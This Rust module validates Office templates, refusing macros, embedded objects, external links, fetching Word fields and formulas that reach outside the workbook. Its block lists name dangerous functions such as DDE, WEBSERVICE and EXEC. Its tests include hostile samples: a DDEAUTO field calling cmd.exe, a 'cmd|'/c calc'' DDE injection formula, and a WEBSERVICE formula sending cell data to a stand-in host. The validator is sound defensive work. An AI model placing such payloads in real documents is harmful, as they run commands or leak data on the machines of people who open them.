//! What a template may not hold: macros, files and controls inside, links that leave the file, fields and formulas that fetch
//! or run something. Such a file would do its work on the computer of whoever opens a filled copy.

use super::answer::Shape;
use super::package::Opened;
use crate::reading::refusal::{Reason, Refusal};
use crate::reading::xml::{Step, Tag, Xml};

const WORD_TYPE: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const EXCEL_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
/// Pieces of names of parts with programs.
const MACROS: [&str; 6] =
    ["vbaproject", "vbadata", "macrosheets/", "customui/", "dialogsheets/", "attachedtoolbars"];
/// Pieces of names of parts that are files, controls or sources of data.
const EMBEDDED: [&str; 9] = [
    "/embeddings/",
    "/activex/",
    "/ctrlprops/",
    "/externallinks/",
    "/connections.xml",
    "/querytables/",
    "/webextensions/",
    "/afchunk",
    "/model/",
];
/// Fields of Word that number, date and refer within the document.
const FIELDS: [&str; 24] = [
    "PAGE",
    "NUMPAGES",
    "SECTION",
    "SECTIONPAGES",
    "PAGEREF",
    "REF",
    "NOTEREF",
    "STYLEREF",
    "SEQ",
    "TOC",
    "TC",
    "INDEX",
    "XE",
    "DATE",
    "TIME",
    "CREATEDATE",
    "SAVEDATE",
    "PRINTDATE",
    "NUMWORDS",
    "NUMCHARS",
    "FORMTEXT",
    "FORMCHECKBOX",
    "FORMDROPDOWN",
    "EQ",
];
/// Functions that reach outside the workbook or make links of what is in the cells.
const FUNCTIONS: [&str; 12] = [
    "WEBSERVICE",
    "HYPERLINK",
    "RTD",
    "CALL",
    "REGISTER",
    "EXEC",
    "FILTERXML",
    "IMAGE",
    "INDIRECT",
    "SQL.REQUEST",
    "DDE",
    "EVALUATE",
];
/// Elements that bring in something else.
const ELEMENTS: [&str; 9] = [
    "object",
    "OLEObject",
    "control",
    "altChunk",
    "subDoc",
    "attachedTemplate",
    "mailMerge",
    "oleObject",
    "ddeLink",
];

/// Looks through the whole file; tells what it is.
pub(super) fn inspect(opened: &Opened<'_>) -> Result<Shape, Refusal> {
    let mut names: Vec<&str> = opened.container.names().collect();
    names.sort_unstable();
    for name in &names {
        if MACROS.iter().any(|piece| name.contains(piece)) {
            return Err(Reason::Macro.into());
        }
        if EMBEDDED.iter().any(|piece| name.contains(piece)) {
            return Err(Refusal::new(Reason::TemplateEmbedded).with("part", name));
        }
    }
    let shape = shape(opened)?;
    for name in names {
        if name.ends_with(".rels") {
            relations(opened, name)?;
        } else if name.ends_with(".xml") && name != "[content_types].xml" {
            content(opened, name)?;
        }
    }
    Ok(shape)
}

fn open<'a>(opened: &Opened<'a>, name: &str) -> Result<Xml<'a>, Refusal> {
    let part =
        opened.container.part(name).ok_or_else(|| Refusal::new(Reason::PartMissing).with("part", name))?;
    Xml::open(part, name)
}

/// By the types that the package itself gives its parts.
fn shape(opened: &Opened<'_>) -> Result<Shape, Refusal> {
    let name = "[content_types].xml";
    if !opened.container.has(name) {
        return Err(Reason::TemplateKind.into());
    }
    let mut xml = open(opened, name)?;
    let mut shape = None;
    loop {
        match xml.next()? {
            Step::Open(tag) => {
                let kind = tag.get("ContentType")?.unwrap_or_default();
                let small = kind.to_lowercase();
                if small.contains("macroenabled") || small.contains("vba") {
                    return Err(Reason::Macro.into());
                }
                let part = tag.get("PartName")?.unwrap_or_default();
                match (kind.as_str(), part.as_str()) {
                    (WORD_TYPE, "/word/document.xml") => shape = Some(Shape::Word),
                    (EXCEL_TYPE, "/xl/workbook.xml") => shape = Some(Shape::Excel),
                    _ => {}
                }
            }
            Step::End => return shape.ok_or_else(|| Reason::TemplateKind.into()),
            _ => {}
        }
    }
}

/// Only addresses that a person may click lead outside.
fn relations(opened: &Opened<'_>, name: &str) -> Result<(), Refusal> {
    let mut xml = open(opened, name)?;
    loop {
        match xml.next()? {
            Step::Open(tag) if tag.name() == "Relationship" => relation(&tag, name)?,
            Step::End => return Ok(()),
            _ => {}
        }
    }
}

fn relation(tag: &Tag<'_>, name: &str) -> Result<(), Refusal> {
    let get = |key: &str| -> Result<String, Reason> { Ok(tag.get(key)?.unwrap_or_default()) };
    let (kind, target, mode) = (get("Type")?, get("Target")?, get("TargetMode")?);
    let kind = kind.rsplit('/').next().unwrap_or_default().to_lowercase();
    let brings_in = [
        "oleobject",
        "package",
        "afchunk",
        "attachedtemplate",
        "externallink",
        "control",
        "vbaproject",
        "subdocument",
        "frame",
    ];
    if brings_in.contains(&kind.as_str()) {
        return Err(Refusal::new(Reason::TemplateEmbedded).with("part", &target));
    }
    let outside =
        mode.eq_ignore_ascii_case("external") || target.contains("://") || target.starts_with("\\\\");
    let clicked = kind == "hyperlink" && is_address(&target);
    if outside && !clicked {
        let told: String = target.chars().take(80).collect();
        return Err(
            Refusal::new(Reason::TemplateOutside).with("part", if told.is_empty() { name } else { &told })
        );
    }
    Ok(())
}

fn is_address(target: &str) -> bool {
    let small = target.to_lowercase();
    ["https://", "http://", "mailto:"].iter().any(|start| small.starts_with(start))
}

/// What stands in a part: elements that bring something in, fields, formulas. Every part is read to its end, so that nothing
/// in it is beyond the limits of the reader of workbooks.
fn content(opened: &Opened<'_>, name: &str) -> Result<(), Refusal> {
    let mut xml = open(opened, name)?;
    let mut look = Look::default();
    loop {
        match xml.next()? {
            Step::Open(tag) => {
                if ELEMENTS.contains(&tag.name()) {
                    return Err(Refusal::new(Reason::TemplateEmbedded).with("part", tag.name()));
                }
                look.open(&tag)?;
            }
            Step::Text(text) => look.text(&text),
            Step::Close(tag) => look.close(tag.name())?,
            Step::Other => {}
            Step::End => return Ok(()),
        }
    }
}

/// The instructions of fields and the formulas that are being read.
#[derive(Default)]
struct Look {
    /// Fields inside fields; each with what is gathered of its instruction, none once its result begins.
    fields: Vec<Option<String>>,
    instruction: bool,
    formula: Option<String>,
}

impl Look {
    fn open(&mut self, tag: &Tag<'_>) -> Result<(), Refusal> {
        match tag.name() {
            "fldSimple" => judge_field(&tag.get("instr")?.unwrap_or_default())?,
            "fldChar" => match tag.get("fldCharType")?.as_deref() {
                Some("begin") => self.fields.push(Some(String::new())),
                Some("separate") => self.judge()?,
                _ => {
                    self.judge()?;
                    self.fields.pop();
                }
            },
            "instrText" | "delInstrText" => self.instruction = true,
            "f" | "formula" | "formula1" | "formula2" | "definedName" => self.formula = Some(String::new()),
            _ => {}
        }
        Ok(())
    }

    fn text(&mut self, text: &str) {
        if let Some(formula) = &mut self.formula {
            formula.push_str(text);
        }
        if self.instruction {
            match self.fields.last_mut() {
                Some(Some(instruction)) => instruction.push_str(text),
                // An instruction outside any field, or after its result began: judged by itself.
                _ => self.fields.push(Some(text.to_owned())),
            }
        }
    }

    fn close(&mut self, name: &str) -> Result<(), Refusal> {
        match name {
            "instrText" | "delInstrText" => self.instruction = false,
            "f" | "formula" | "formula1" | "formula2" | "definedName" => {
                judge_formula(&self.formula.take().unwrap_or_default())?;
            }
            // Whatever was left open in a part is judged at its end.
            "document" | "hdr" | "ftr" | "footnotes" | "endnotes" | "comments" | "glossaryDocument" => {
                while !self.fields.is_empty() {
                    self.judge()?;
                    self.fields.pop();
                }
            }
            _ => {}
        }
        Ok(())
    }

    fn judge(&mut self) -> Result<(), Refusal> {
        match self.fields.last_mut().and_then(Option::take) {
            Some(instruction) => judge_field(&instruction),
            None => Ok(()),
        }
    }
}

fn judge_field(instruction: &str) -> Result<(), Refusal> {
    let mut words = instruction.split_whitespace();
    let Some(name) = words.next() else { return Ok(()) };
    let target = words.next().unwrap_or_default().trim_matches('"');
    let upper = name.to_uppercase();
    let link = upper == "HYPERLINK" && (target.starts_with("\\l") || is_address(target));
    if link || FIELDS.contains(&upper.as_str()) || upper.starts_with('=') {
        return Ok(());
    }
    let told: String = name.chars().take(40).collect();
    Err(Refusal::new(Reason::TemplateField).with("found", told))
}

fn judge_formula(formula: &str) -> Result<(), Refusal> {
    // Texts in quotation marks say nothing to the program that computes.
    let bare: String = formula.split('"').step_by(2).collect::<Vec<_>>().join("\"\"");
    let upper = bare.to_uppercase();
    // A bracket may name a column of a table; a number or a file name in it names another workbook.
    let calls = |name: &&str| upper.contains(&format!("{name}("));
    let other_book = upper.split('[').skip(1).any(|rest| {
        let inside = rest.split(']').next().unwrap_or_default();
        inside.chars().all(|sign| sign.is_ascii_digit()) || inside.contains(".XL") || inside.contains(".CSV")
    });
    if FUNCTIONS.iter().any(calls) || other_book || upper.contains('|') {
        let told: String = formula.chars().take(60).collect();
        return Err(Refusal::new(Reason::TemplateFormula).with("found", told));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_that_number_are_taken_and_those_that_fetch_are_not() {
        for good in [
            "PAGE  \\* MERGEFORMAT",
            " NUMPAGES",
            "=1+2",
            "HYPERLINK \"https://www.moe.gov.cn\"",
            "HYPERLINK \\l \"a\"",
            "",
        ] {
            assert!(judge_field(good).is_ok(), "{good}");
        }
        for bad in [
            "INCLUDETEXT \"c:\\\\x.doc\"",
            "includepicture http://a/b",
            "DDEAUTO c:\\\\cmd.exe",
            "LINK Excel.Sheet",
            "DATABASE",
            "IMPORT x",
            "MACROBUTTON x",
            "AUTOTEXT",
            "RD x",
            "HYPERLINK \"file:///c:/x\"",
            "QUOTE 65",
            "FILLIN",
            "ASK a b",
        ] {
            assert!(judge_field(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn formulas_that_compute_are_taken_and_those_that_reach_outside_are_not() {
        for good in ["SUM(A1:A9)", "COUNTIF(B:B,\"DDE|x\")", "Table1[Name]", "Sheet2!A1"] {
            assert!(judge_formula(good).is_ok(), "{good}");
        }
        for bad in [
            "WEBSERVICE(\"http://x\"&A1)",
            "[1]Sheet1!A1",
            "'[a.xlsx]S'!A1",
            "cmd|'/c calc'!A0",
            "hyperlink(A1)",
            "INDIRECT(A1)",
        ] {
            assert!(judge_formula(bad).is_err(), "{bad}");
        }
    }
}
